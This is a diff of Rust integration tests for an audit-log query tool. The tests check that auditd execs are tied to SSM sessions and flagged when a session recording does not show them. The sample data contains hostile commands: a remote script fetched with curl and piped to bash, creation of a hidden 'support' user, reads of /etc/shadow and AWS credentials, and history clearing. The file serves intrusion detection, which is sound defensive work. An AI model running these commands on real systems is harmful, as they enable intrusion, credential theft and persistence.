@@ -46,15 +46,15 @@ async fn sample_scenario_answers_who_when_where_what() {
     let lake = Lake::new(dir.path().join("lake").display().to_string());
 
     let first = ingest(&lake).await;
-    assert_eq!(first.objects, 35, "{first:?}");
+    assert_eq!(first.objects, 36, "{first:?}");
     assert_eq!(
         first.skipped, 2,
         "generate.py and README.md are not log files"
     );
     let added = |s: &IngestSummary, t: Table| s.tables.get(&t).map(|c| (c.read, c.added));
-    assert_eq!(added(&first, Table::Commands), Some((39, 39)));
+    assert_eq!(added(&first, Table::Commands), Some((63, 63)));
     assert_eq!(added(&first, Table::Sessions), Some((11, 11)));
-    assert_eq!(added(&first, Table::HostEvents), Some((19, 19)));
+    assert_eq!(added(&first, Table::HostEvents), Some((41, 41)));
     assert_eq!(
         added(&first, Table::Cloudtrail),
         Some((28, 27)),
@@ -63,10 +63,10 @@ async fn sample_scenario_answers_who_when_where_what() {
     assert_eq!(added(&first, Table::Rejects), Some((0, 0)));
 
     let second = ingest(&lake).await;
-    assert_eq!(added(&second, Table::Commands), Some((39, 0)));
+    assert_eq!(added(&second, Table::Commands), Some((63, 0)));
     assert_eq!(added(&second, Table::Cloudtrail), Some((28, 0)));
     assert_eq!(added(&second, Table::Sessions), Some((11, 0)));
-    assert_eq!(added(&second, Table::HostEvents), Some((19, 0)));
+    assert_eq!(added(&second, Table::HostEvents), Some((41, 0)));
     assert_eq!(second.tables[&Table::Sessions].updated, 0);
 
     let counts = csv(
@@ -77,7 +77,7 @@ async fn sample_scenario_answers_who_when_where_what() {
          (select count(*) n from rejects) r",
     )
     .await;
-    assert_eq!(counts, "c,s,t,d,r\n39,11,27,27,0\n");
+    assert_eq!(counts, "c,s,t,d,r\n63,11,27,27,0\n");
 
     // Every sudo command: who, when, where, what (the README's first question).
     let sudo = csv(&lake, auditq_tests::SUDO_COMMANDS_SQL).await;
@@ -96,7 +96,7 @@ async fn sample_scenario_answers_who_when_where_what() {
     assert_eq!(
         sessions,
         "session_id,user,source_ip,target,document,kind,logged,commands,started_at,ended_at\n\
-alice-0a7f3c9e1b2d4f601,alice,203.0.113.10,i-0a1b2c3d4e5f60711,SSM-SessionManagerRunShell,shell,stream,6,2026-10-05T09:12:03Z,2026-10-05T09:18:40Z\n\
+alice-0a7f3c9e1b2d4f601,alice,203.0.113.10,i-0a1b2c3d4e5f60711,SSM-SessionManagerRunShell,shell,stream,8,2026-10-05T09:12:03Z,2026-10-05T09:18:40Z\n\
 bob-0b8e4d0f2c3e5a712,bob,198.51.100.23,i-0b2c3d4e5f6071822,SSM-SessionManagerRunShell,shell,stream,4,2026-10-05T10:30:15Z,2026-10-05T10:41:02Z\n\
 carol@example.com-wzleysigzmbd6fmkefjqvt5w4u,carol@example.com,192.0.2.77,i-0a1b2c3d4e5f60711,SSM-SessionManagerRunShell,shell,stream,4,2026-10-05T14:05:44Z,2026-10-05T14:12:10Z\n\
 dave-03d4e5f6a7b8c9da2,dave,198.51.100.99,i-0c3d4e5f607182933,SSM-SessionManagerRunShell,shell,stream,3,2026-10-05T16:40:00Z,2026-10-05T16:44:30Z\n\
@@ -104,9 +104,9 @@ dave-0d9a5b1e3f4a6c823,dave,198.51.100.99,i-0c3d4e5f607182933,SSM-SessionManager
 bob-02c3d4e5f6a7b8c91,bob,198.51.100.23,i-0a1b2c3d4e5f60711,SSM-SessionManagerRunShell,shell,stream,3,2026-10-06T09:30:00Z,2026-10-06T09:34:10Z\n\
 alice-0e1f2a3b4c5d6e7f8,alice,203.0.113.10,i-0b2c3d4e5f6071822,SSM-SessionManagerRunShell,shell,transcript,5,2026-10-06T11:00:05Z,2026-10-06T11:07:31Z\n\
 carol@example.com-q3ksx7n2pd5m4hbf6gtyr8wzla,carol@example.com,192.0.2.77,i-0c3d4e5f607182933,SSM-SessionManagerRunShell,shell,transcript,4,2026-10-06T15:20:30Z,2026-10-06T15:26:02Z\n\
-bob-0f1a2b3c4d5e6f701,bob,198.51.100.23,i-0d4e5f60718293a44,AWS-StartSSHSession,ssh,host_only,0,2026-10-06T16:00:12Z,2026-10-06T16:45:50Z\n\
+bob-0f1a2b3c4d5e6f701,bob,198.51.100.23,i-0d4e5f60718293a44,AWS-StartSSHSession,ssh,host_only,7,2026-10-06T16:00:12Z,2026-10-06T16:45:50Z\n\
 dave-01b2c3d4e5f6a7b80,dave,198.51.100.99,i-0c3d4e5f607182933,AWS-StartPortForwardingSession,port_forward,none,0,2026-10-06T17:10:00Z,2026-10-06T17:55:30Z\n\
-ssh-arc-web-1-0945a40dfd8d,carol@example.com,192.0.2.77,arc-web-1,sshd,host_ssh,host_only,0,2026-10-06T19:20:02.036114Z,\n"
+ssh-arc-web-1-0945a40dfd8d,carol@example.com,192.0.2.77,arc-web-1,sshd,host_ssh,host_only,1,2026-10-06T19:20:02.036114Z,\n"
     );
 
     // Transcripts resolve to what was run: the typo fixed with backspaces, history recall, nothing
@@ -133,17 +133,19 @@ ssh-arc-web-1-0945a40dfd8d,carol@example.com,192.0.2.77,arc-web-1,sshd,host_ssh,
         split,
         "time,cmd\n2026-10-05T10:31:06Z,tail -n 50 /var/log/postgresql/postgresql-14-main.log\n"
     );
-    // Root after `sudo su -`: the prompt says so.
+    // Root after `sudo su -`: the prompt says so (what auditd saw is asserted on its own, in
+    // auditd_execs_belong_to_the_session_that_started_them).
     let root = csv(
         &lake,
-        "select user, run_as, cmd where run_as = 'root' order by time, seq",
+        "select user, run_as, cmd where run_as = 'root' and source <> 'auditd' order by time, seq",
     )
     .await;
     assert_eq!(
         root,
-        "user,run_as,cmd\nalice,root,tail -n 20 /var/log/secure\nalice,root,exit\n\
+        "user,run_as,cmd\nalice,root,tail -n 20 /var/log/secure\n\
+         alice,root,/usr/local/sbin/rotate-logs.sh\nalice,root,stty -echo\nalice,root,exit\n\
          dave,root,cat /root/.aws/credentials\ndave,root,history -c\ndave,root,exit\n\
-         bob,root,/usr/sbin/visudo\nbob,root,/usr/sbin/visudo\nbob,root,/bin/cat /etc/shadow\n\
+         bob,root,/usr/sbin/visudo\nbob,root,/bin/cat /etc/shadow\n\
          carol@example.com,root,/usr/bin/journalctl -u nginx -n 50\n"
     );
 
@@ -189,7 +191,7 @@ arn:aws:sts::444455556666:assumed-role/AWSReservedSSO_ReadOnlyAccess_1f2e3d4c5b6
         "select date, count(*) n from commands group by date order by date",
     )
     .await;
-    assert_eq!(days, "date,n\n2026-10-05,17\n2026-10-06,22\n");
+    assert_eq!(days, "date,n\n2026-10-05,37\n2026-10-06,26\n");
     assert!(dir.path().join("lake/commands/date=2026-10-05").is_dir());
     assert!(dir.path().join("lake/commands/_delta_log").is_dir());
 }
@@ -224,13 +226,15 @@ alice-0a7f3c9e1b2d4f601,alice,203.0.113.10,i-0a1b2c3d4e5f60711,stream,2026-10-05
 alice-0e1f2a3b4c5d6e7f8,alice,203.0.113.10,i-0b2c3d4e5f6071822,transcript,2026-10-06T11:00:05Z\n"
     );
     let counts = csv(&lake, "select s.n s, c.n c from (select count(*) n from sessions) s, (select count(*) n from commands) c").await;
-    // Bob's three host commands (sudo and auditd on the bastion) are in cloudwatch/host-logs.
-    assert_eq!(counts, "s,c\n10,38\n");
+    // Bob's seven host commands (sudo and auditd on the bastion) and the 18 execs auditd saw on
+    // prod-web-1 during alice's session (17 hers, logrotate's no one's) are in
+    // cloudwatch/host-logs.
+    assert_eq!(counts, "s,c\n10,62\n");
     // Commands stored before CloudTrail arrived were given their session's who/where.
     let missing = csv(
         &lake,
-        "select count(*) n from commands where user is null or source_ip is null or target is null \
-         or account is null",
+        "select count(*) n from commands where session_id is not null and (user is null \
+         or source_ip is null or target is null or account is null)",
     )
     .await;
     assert_eq!(missing, "n\n0\n");
@@ -312,8 +316,12 @@ async fn host_logs_complete_the_sessions_session_manager_cannot_see() {
         assert_eq!(
             bob,
             "time,user,run_as,source,cmd\n\
+             2026-10-06T16:00:14.790Z,bob,ec2-user,auditd,-bash\n\
              2026-10-06T16:02:40Z,bob,root,sudo,/usr/sbin/visudo\n\
+             2026-10-06T16:02:40.811Z,bob,ec2-user,auditd,sudo visudo\n\
              2026-10-06T16:02:41.311Z,bob,root,auditd,/usr/sbin/visudo\n\
+             2026-10-06T16:05:01.830Z,bob,ec2-user,auditd,sudo cat /etc/shadow\n\
+             2026-10-06T16:05:01.831Z,bob,root,auditd,cat /etc/shadow\n\
              2026-10-06T16:05:02Z,bob,root,sudo,/bin/cat /etc/shadow\n"
         );
         let alerts = csv(
@@ -325,12 +333,122 @@ async fn host_logs_complete_the_sessions_session_manager_cannot_see() {
         assert_eq!(
             alerts,
             "rule_id,user,target\n\
+             host.exec_not_in_recording,alice,i-0a1b2c3d4e5f60711\n\
+             host.exec_not_in_recording,alice,i-0a1b2c3d4e5f60711\n\
+             host.exec_not_in_recording,alice,i-0a1b2c3d4e5f60711\n\
              host.ssh_failed_login_burst,postgres,i-0d4e5f60718293a44\n\
              host.sudo_outside_allowlist,carol@example.com,\n\
              host.sudoers_edit_auditd,ec2-user,i-0d4e5f60718293a44\n\
              ssm.session_unlogged,dave,i-0c3d4e5f607182933\n"
         );
         answers.push((sessions, bob, alerts));
+    }
+    assert_eq!(answers[0], answers[1]);
+}
+
+/// What alice ran on prod-web-1, from auditd (`sample-logs/README.md`): every exec below her
+/// session's `ssm-session-worker` is hers (through `sudo su -` and a script), the daemon's exec
+/// at the same time is no one's, each knows its parent, and what her stream does not show (typed
+/// with echo off, then a payload piped into bash) is marked and alerted on, whether the stream
+/// arrives before or after the audit log.
+#[tokio::test]
+async fn auditd_execs_belong_to_the_session_that_started_them() {
+    let samples = repo_root().join("sample-logs");
+    let orders: [&[&str]; 2] = [
+        &[
+            "s3/cloudtrail",
+            "cloudwatch/aws-ssm-sessions",
+            "cloudwatch/host-logs",
+        ],
+        &[
+            "cloudwatch/host-logs",
+            "s3/cloudtrail",
+            "cloudwatch/aws-ssm-sessions",
+        ],
+    ];
+    let mut answers = Vec::new();
+    for parts in orders {
+        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let engine = std::sync::Arc::new(
+            auditq_rules::compile_source("default").unwrap_or_else(|e| panic!("{e}")),
+        );
+        let lake = Lake::new(dir.path().join("lake").display().to_string());
+        let pipeline = PipelineBuilder::new(lake.clone())
+            .rules(engine, Vec::new())
+            .build()
+            .await
+            .unwrap_or_else(|e| panic!("{e}"));
+        for part in parts {
+            ingest_paths(
+                &pipeline,
+                &[samples.join(part)],
+                &Limits::default(),
+                &|_| {},
+            )
+            .await
+            .unwrap_or_else(|e| panic!("{e}"));
+        }
+        let execs = csv(
+            &lake,
+            "select session_id, user, run_as, cmd, parent_cmd, seen_in_transcript from commands \
+             where source = 'auditd' and target = 'i-0a1b2c3d4e5f60711' order by time",
+        )
+        .await;
+        let lines: Vec<&str> = execs.lines().skip(1).collect();
+        assert_eq!(lines.len(), 18, "{execs}");
+        let alice = "alice-0a7f3c9e1b2d4f601,alice,";
+        let theirs: Vec<&str> = lines
+            .iter()
+            .copied()
+            .filter(|l| l.starts_with(alice))
+            .collect();
+        assert_eq!(theirs.len(), 17, "{execs}");
+        let unowned: Vec<&str> = lines
+            .iter()
+            .copied()
+            .filter(|l| l.starts_with(','))
+            .collect();
+        assert_eq!(
+            unowned,
+            [",,root,/usr/sbin/logrotate /etc/logrotate.conf,,"],
+            "{execs}"
+        );
+        for expected in [
+            // Typed and shown: seen, with its parent.
+            "alice-0a7f3c9e1b2d4f601,alice,root,tail -n 20 /var/log/secure,-bash,true",
+            // What sudo ran, as root, below sudo.
+            "alice-0a7f3c9e1b2d4f601,alice,root,systemctl restart nginx,sudo systemctl restart nginx,true",
+            // What a script ran: not shown, its parent is the script.
+            "alice-0a7f3c9e1b2d4f601,alice,root,gzip -9 /var/log/nginx/access.log-20260928,/bin/bash /usr/local/sbin/rotate-logs.sh,false",
+            // Typed with echo off, and what the fetched script ran.
+            "alice-0a7f3c9e1b2d4f601,alice,root,curl -s http://198.51.100.250/i.sh,-bash,false",
+            "alice-0a7f3c9e1b2d4f601,alice,root,useradd -m -c 'Support Account' support,bash,false",
+        ] {
+            assert!(lines.contains(&expected), "{expected} not in\n{execs}");
+        }
+        let alerts = csv(
+            &lake,
+            "select c.cmd from alerts a join commands c on a.event_id = c.event_id \
+             where a.rule_id = 'host.exec_not_in_recording' order by c.time",
+        )
+        .await;
+        assert_eq!(
+            alerts,
+            "cmd\ncurl -s http://198.51.100.250/i.sh\nbash\nuseradd -m -c 'Support Account' support\n"
+        );
+        // With the stream read first, an exec it shows raised no second alert beside the typed
+        // line's. (Read before its recording, an exec is alerted on as it comes: whether the
+        // recording will show it is not known yet.)
+        let root_shells = csv(
+            &lake,
+            "select count(*) n from alerts where rule_id = 'linux.sudo_root_shell' \
+             and session_id = 'alice-0a7f3c9e1b2d4f601'",
+        )
+        .await;
+        if parts[2] == "cloudwatch/host-logs" {
+            assert_eq!(root_shells, "n\n1\n");
+        }
+        answers.push((execs, alerts));
     }
     assert_eq!(answers[0], answers[1]);
 }
